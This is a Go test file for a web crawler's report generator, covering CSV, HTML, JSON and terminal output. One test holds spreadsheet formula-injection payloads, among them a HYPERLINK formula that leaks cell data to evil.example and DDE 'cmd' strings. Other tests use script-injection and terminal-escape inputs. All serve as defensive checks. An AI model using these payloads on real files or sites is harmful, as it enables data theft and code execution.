package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/politecrawl/crawler/storage"
)

// Without a link graph, the tables that need it are null and the rest is
// as with it.
func TestNoLinkGraph(t *testing.T) {
	m := decode(t, build(t, false, false))
	if m["orphans"] != nil {
		t.Errorf("orphans = %v, want null", m["orphans"])
	}
	for _, b := range m["broken"].([]any) {
		if b.(map[string]any)["inlinks"] != nil {
			t.Errorf("broken %v: inlinks not null", b)
		}
	}
	if n := len(m["broken"].([]any)); n != 5 {
		t.Errorf("%d broken, want 5", n)
	}
	if _, ok := m["compare"]; ok {
		t.Error("compare present without a previous inventory")
	}
}

// Without a sitemap read, not_in_sitemap is null; a sitemap is known to
// have been read from in_sitemap or found_via.
func TestNoSitemap(t *testing.T) {
	inv := `{"url":"https://ex.test/","status":200,"content_type":"text/html","found_via":"seed","link_depth":0,"title":"T"}` + "\n"
	r, err := Build(Inputs{Inventory: strings.NewReader(inv), Links: strings.NewReader("")}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	m := decode(t, r)
	if m["not_in_sitemap"] != nil {
		t.Errorf("not_in_sitemap = %v, want null", m["not_in_sitemap"])
	}
	if got := m["orphans"]; got == nil || len(got.([]any)) != 0 {
		t.Errorf("orphans = %v, want []", got)
	}
	if len(r.Warnings) != 0 {
		t.Errorf("warnings %q", r.Warnings)
	}
}

// Workers' outputs concatenated: the last record of a URL wins wherever
// it is, and a torn last line of the first file (no newline) is skipped
// with the line number it has in the whole.
func TestConcatenatedWorkers(t *testing.T) {
	a := `{"url":"https://ex.test/p","status":503,"error":"x"}` + "\n" + `{"url":"https://ex.test/q","sta`
	b := "\n" + `{"url":"https://ex.test/p","status":200,"content_type":"text/html","title":"P","link_depth":1}` + "\n"
	r, err := Build(Inputs{Inventory: strings.NewReader(a + b)}, Names{Inventory: "all.jsonl"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Overview.URLs != 1 || r.Overview.ByStatus.S2xx != 1 || r.Overview.ByStatus.S5xx != 0 {
		t.Errorf("overview %+v, want 1 URL, 200", r.Overview)
	}
	if len(r.Warnings) < 1 || !strings.HasPrefix(r.Warnings[0], "all.jsonl: skipped 1 malformed line (line 2)") {
		t.Errorf("warnings %q", r.Warnings)
	}
}

// A redirect with no redirect_chain is followed from record to record,
// and a loop found so without the engine's error is a loop.
func TestRedirectFollowedThroughRecords(t *testing.T) {
	inv := strings.Join([]string{
		`{"url":"https://ex.test/1","status":301,"final_url":"https://ex.test/2"}`,
		`{"url":"https://ex.test/2","status":302,"final_url":"https://ex.test/3"}`,
		`{"url":"https://ex.test/3","status":410}`,
		`{"url":"https://ex.test/x","status":301,"final_url":"https://ex.test/y"}`,
		`{"url":"https://ex.test/y","status":301,"final_url":"https://ex.test/x"}`,
	}, "\n")
	r, err := Build(Inputs{Inventory: strings.NewReader(inv)}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	want := []Redirect{
		{URL: "https://ex.test/1", FinalURL: "https://ex.test/3", FinalStatus: 410, Hops: 2},
		{URL: "https://ex.test/2", FinalURL: "https://ex.test/3", FinalStatus: 410, Hops: 1},
		{URL: "https://ex.test/x", FinalURL: "https://ex.test/x", FinalStatus: 301, Hops: 2, Loop: true},
		{URL: "https://ex.test/y", FinalURL: "https://ex.test/y", FinalStatus: 301, Hops: 2, Loop: true},
	}
	if len(r.Redirects) != len(want) {
		t.Fatalf("redirects %+v", r.Redirects)
	}
	for i := range want {
		if r.Redirects[i] != want[i] {
			t.Errorf("redirect %d = %+v, want %+v", i, r.Redirects[i], want[i])
		}
	}
	// 1 and 2 end in a 410: broken, as 3 is; the loop is not.
	var broken []string
	for _, b := range r.Broken {
		broken = append(broken, b.URL)
	}
	if strings.Join(broken, " ") != "https://ex.test/1 https://ex.test/2 https://ex.test/3" {
		t.Errorf("broken %q", broken)
	}
}

// scanLink reads what encoding/json reads from the lines the writer
// writes, and gives up (for encoding/json to decide) on anything else.
func TestScanLinkAgreesWithJSON(t *testing.T) {
	lines := []string{
		`{"from":"https://a/","to":"https://a/b","kind":"a","anchor":"B"}`,
		`{"from":"https://a/","to":"https://a/b","kind":"a","rel":"nofollow","nofollow":true,"anchor":"\u00e9t\u00e9 \"q\" \\ \ud83d\ude00"}`,
		` { "from" : "https://a/" , "to" : "https://a/\u0063" , "kind" : "img" } `,
		`{"from":"https://a/","to":"https://a/c","kind":"a","nofollow":false}`,
		`{"from":"https://a/","to":"https://a/c","kind":"a","other":1}`,
		`{"from":"https://a/","to":"https://a/c","kind":"a","anchor":null}`,
		`{"from":"https://a/","to":"https://a/c"`,
		`{"from":"https://a/","to":"https://a/c",}`,
		`{"from":"https://a/","to":"https://a/c"}x`,
		`{"from":"https://a/","to":"https://a/\"}`,
		`{}`,
		`[]`,
		`"x"`,
	}
	for _, line := range lines {
		var want storage.Link
		wantOK := json.Unmarshal([]byte(line), &want) == nil && want.From != "" && want.To != ""
		var raw rawLink
		var got link
		ok := parseLink([]byte(line), &raw, &got)
		if ok != wantOK {
			t.Errorf("%s: ok %v, encoding/json says %v", line, ok, wantOK)
			continue
		}
		if !ok {
			continue
		}
		if got.from != want.From || got.to != want.To || got.kind != want.Kind || anchorOf(&raw, &got) != want.Anchor {
			t.Errorf("%s: got %+v anchor %q, want %+v", line, got, anchorOf(&raw, &got), want)
		}
	}
}

// A line longer than the limit is skipped without being held, and the
// lines after it are read with their numbers.
func TestLongLineSkipped(t *testing.T) {
	var b bytes.Buffer
	b.WriteString(`{"url":"https://ex.test/1","status":200}` + "\n")
	b.WriteString(`{"url":"https://ex.test/` + strings.Repeat("x", 3*maxLine) + `","status":200}` + "\n")
	b.WriteString(`{"url":"https://ex.test/3","status":404}` + "\n")
	r, err := Build(Inputs{Inventory: &b}, Names{Inventory: "i"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Overview.URLs != 2 || len(r.Warnings) < 1 || !strings.HasPrefix(r.Warnings[0], "i: skipped 1 malformed line (line 2)") {
		t.Errorf("urls %d, warnings %q", r.Overview.URLs, r.Warnings)
	}
}

// On a terminal the text shows the first rows of a table and what to
// run for the rest; control characters from the inputs are not written.
func TestTextLimit(t *testing.T) {
	r := build(t, true, false)
	r.Noindex = []string{"https://ex.test/1", "https://ex.test/2\x1b[2J", "https://ex.test/3"}
	var b bytes.Buffer
	if err := WriteText(&b, r, 2, "crawler report --format csv --out DIR"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Pages with noindex: 3\n", "https://ex.test/2 [2J", "… and 1 more (all of them: crawler report --format csv --out DIR)", "https://ex.test/ “gone”"} {
		if !strings.Contains(out, want) {
			t.Errorf("text lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\x1b") || strings.Contains(out, "https://ex.test/3\n") {
		t.Errorf("text has an escape, or a row past the limit:\n%s", out)
	}
}

// CSV: a file per table, the header first, a row per inlink of a broken URL.
func TestCSV(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "new")
	if err := WriteCSV(dir, build(t, true, true)); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"overview", "broken", "redirects", "orphans", "not_in_sitemap", "sitemap_issues", "noindex", "nofollow", "canonicals", "titles", "descriptions", "depth", "slowest", "largest", "compare"} {
		f, err := os.Open(filepath.Join(dir, name+".csv"))
		if err != nil {
			t.Error(err)
			continue
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil || len(rows) < 2 {
			t.Errorf("%s.csv: %d rows, %v", name, len(rows), err)
			continue
		}
		if name == "broken" {
			if strings.Join(rows[0], ",") != "url,status,error,from,anchor" || len(rows) != 1+1+4+1+2+1 {
				t.Errorf("broken.csv: %q", rows)
			}
		}
	}
}

// The HTML is one document that loads nothing, with every text escaped,
// its URLs links (http and https only), naming the site and the date.
func TestHTMLSelfContainedAndEscaped(t *testing.T) {
	var b bytes.Buffer
	if err := WriteHTML(&b, build(t, true, true), time.Date(2026, 11, 27, 9, 30, 0, 0, time.UTC)); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, bad := range []string{`"x" <b>`, "src=", "<link", "@import", "url(", "href=\"javascript"} {
		if strings.Contains(out, bad) {
			t.Errorf("HTML holds %q", bad)
		}
	}
	// URLs are links (anchors load nothing), and the page names the
	// site and the date.
	for _, want := range []string{"G&ouml;ne", "&lt;b&gt;", `id="broken"`, `<a href="https://ex.test/redir-404">https://ex.test/redir-404</a>`,
		"<title>Crawl audit of https://ex.test, 2026-11-27 09:30 UTC</title>", "<h1>Crawl audit of https://ex.test</h1>"} {
		if !strings.Contains(out, want) && !strings.Contains(out, strings.ReplaceAll(want, "&ouml;", "ö")) {
			t.Errorf("HTML lacks %q", want)
		}
	}
}

// A link to a broken URL first seen without an anchor and then with one,
// across chunks of the link graph, keeps its page's URL intact: the key
// kept is a copy, not a view of a chunk the reader reuses.
func TestInlinkFromSurvivesChunks(t *testing.T) {
	inv := `{"url":"https://a.example/","status":200,"content_type":"text/html"}` + "\n" +
		`{"url":"https://a.example/dead","status":404}` + "\n"
	var links strings.Builder
	link := func(from, to, anchor string) {
		fmt.Fprintf(&links, `{"from":%q,"to":%q,"kind":"a","anchor":%q}`+"\n", from, to, anchor)
	}
	link("https://a.example/", "https://a.example/dead", "")
	for links.Len() < 3*linkChunk {
		link("https://a.example/", "https://a.example/", "filler")
	}
	link("https://a.example/", "https://a.example/dead", "x")
	for links.Len() < 6*linkChunk {
		link("https://a.example/", "https://a.example/", "filler")
	}
	r, err := Build(Inputs{Inventory: strings.NewReader(inv), Links: strings.NewReader(links.String())}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Broken) != 1 || len(r.Broken[0].Inlinks) != 1 || r.Broken[0].Inlinks[0] != (Inlink{From: "https://a.example/", Anchor: "x"}) {
		t.Fatalf("broken %+v", r.Broken)
	}
}

// A link depth no crawl writes is not counted, rather than making the
// depth table as long as it says.
func TestHugeLinkDepthIgnored(t *testing.T) {
	inv := `{"url":"https://a.example/","status":200,"content_type":"text/html","link_depth":0}` + "\n" +
		`{"url":"https://a.example/b","status":200,"content_type":"text/html","link_depth":50000000}` + "\n"
	r, err := Build(Inputs{Inventory: strings.NewReader(inv)}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Depth) != 1 || r.Depth[0] != 1 {
		t.Errorf("depth table %v; want one page at depth 0", r.Depth)
	}
}

// No CSV cell begins with what a spreadsheet takes for a formula: a
// crawled site's title and anchors are written as text (OWASP's
// single-quote prefix), the payloads of issue 22 among them.
func TestCSVInjectionDefused(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3`, "\t=1+1", "\r=1+1"}
	var inv, links strings.Builder
	for i, p := range payloads {
		u := fmt.Sprintf("https://ex.test/%d", i)
		b, _ := json.Marshal(map[string]any{"url": u, "status": 200, "content_type": "text/html", "title": p, "link_depth": 0})
		inv.Write(append(b, '\n'))
		b, _ = json.Marshal(map[string]any{"url": u + "/x", "status": 404})
		inv.Write(append(b, '\n'))
		b, _ = json.Marshal(map[string]any{"from": u, "to": u + "/x", "kind": "a", "anchor": p})
		links.Write(append(b, '\n'))
	}
	// Two pages with each title, so that titles.csv lists them as duplicates.
	r, err := Build(Inputs{Inventory: strings.NewReader(inv.String() + strings.ReplaceAll(inv.String(), "ex.test", "ex.test/dup")),
		Links: strings.NewReader(links.String())}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := WriteCSV(dir, r); err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, name := range []string{"titles", "broken"} {
		f, err := os.Open(filepath.Join(dir, name+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s.csv: cell %q begins a formula", name, c)
				}
				seen[c]++
			}
		}
	}
	for _, p := range payloads {
		if seen["'"+p] == 0 {
			t.Errorf("payload %q not written as '%s", p, p)
		}
	}
}

// A title's C1 and bidi controls and line separators reach neither the
// text report nor its JSON raw (issue 23, item 7).
func TestTextAndJSONEscapeControls(t *testing.T) {
	title := "a\u009b31m\u202eevil\u2028b\u2029c\u2066d"
	inv := fmt.Sprintf(`{"url":"https://ex.test/1","status":200,"content_type":"text/html","title":%q}
{"url":"https://ex.test/2","status":200,"content_type":"text/html","title":%[1]q}
`, title)
	r, err := Build(Inputs{Inventory: strings.NewReader(inv)}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	var text, js bytes.Buffer
	if err := WriteText(&text, r, 0, ""); err != nil {
		t.Fatal(err)
	}
	if err := WriteJSON(&js, r); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": text.String(), "json": js.String()} {
		if strings.ContainsAny(out, "\u009b\u202e\u2028\u2029\u2066") {
			t.Errorf("%s holds a control raw: %q", name, out)
		}
		if !strings.Contains(out, `a\u009b31m\u202eevil`) {
			t.Errorf("%s lacks the title escaped: %q", name, out)
		}
	}
}

// Only an absolute http(s) URL at the start of a line becomes a link.
func TestCellLink(t *testing.T) {
	for line, want := range map[string]*linked{
		"https://ex.test/a":          {URL: "https://ex.test/a"},
		"http://ex.test/b “anchor”":  {URL: "http://ex.test/b", Rest: " “anchor”"},
		"javascript:alert(1)":        nil,
		"data:text/html,<b>":         nil,
		"/relative":                  nil,
		"404":                        nil,
		`https://ex.test/"><script>`: {URL: `https://ex.test/"><script>`},
	} {
		got := cellLink(line)
		if (got == nil) != (want == nil) || got != nil && *got != *want {
			t.Errorf("cellLink(%q) = %v, want %v", line, got, want)
		}
	}
	var b bytes.Buffer
	r := &Report{Noindex: []string{`https://ex.test/"><script>x</script>`, "javascript:alert(1)"}}
	if err := WriteHTML(&b, r, time.Now()); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); strings.Contains(out, "<script>x") || strings.Contains(out, `href="javascript`) {
		t.Errorf("HTML holds a raw script or a javascript: link")
	}
}

// On a terminal of 80 columns no line of the text report is wider than
// 79 (long URLs end in "…"); to a pipe (width 0) rows are whole.
func TestTextFitsTheWidth(t *testing.T) {
	long := "https://ex.test/" + strings.Repeat("very-long-path-segment/", 12)
	inv := fmt.Sprintf(`{"url":"https://ex.test/","status":200,"content_type":"text/html","found_via":"seed","link_depth":0}
{"url":%q,"status":404}
{"url":%q,"status":301,"final_url":%q,"redirect_chain":[%q]}
`, long+"dead", long+"moved", long+"dead", long+"dead")
	links := fmt.Sprintf(`{"from":"https://ex.test/","to":%q,"kind":"a","anchor":"a rather long anchor text that goes on and on for a while"}
`, long+"dead")
	r, err := Build(Inputs{Inventory: strings.NewReader(inv), Links: strings.NewReader(links)}, Names{})
	if err != nil {
		t.Fatal(err)
	}
	r.Warnings = nil
	var b bytes.Buffer
	if err := WriteTextFit(&b, r, 10, 80, "crawler report --format csv --out DIR, or --format html"); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if n := utf8.RuneCountInString(line); n > 79 {
			t.Errorf("line of %d columns: %q", n, line)
		}
	}
	if !strings.Contains(b.String(), "…") {
		t.Errorf("no URL cut:\n%s", b.String())
	}
	b.Reset()
	if err := WriteText(&b, r, 0, ""); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), long+"dead") {
		t.Errorf("to a pipe a URL was cut:\n%s", b.String())
	}
}
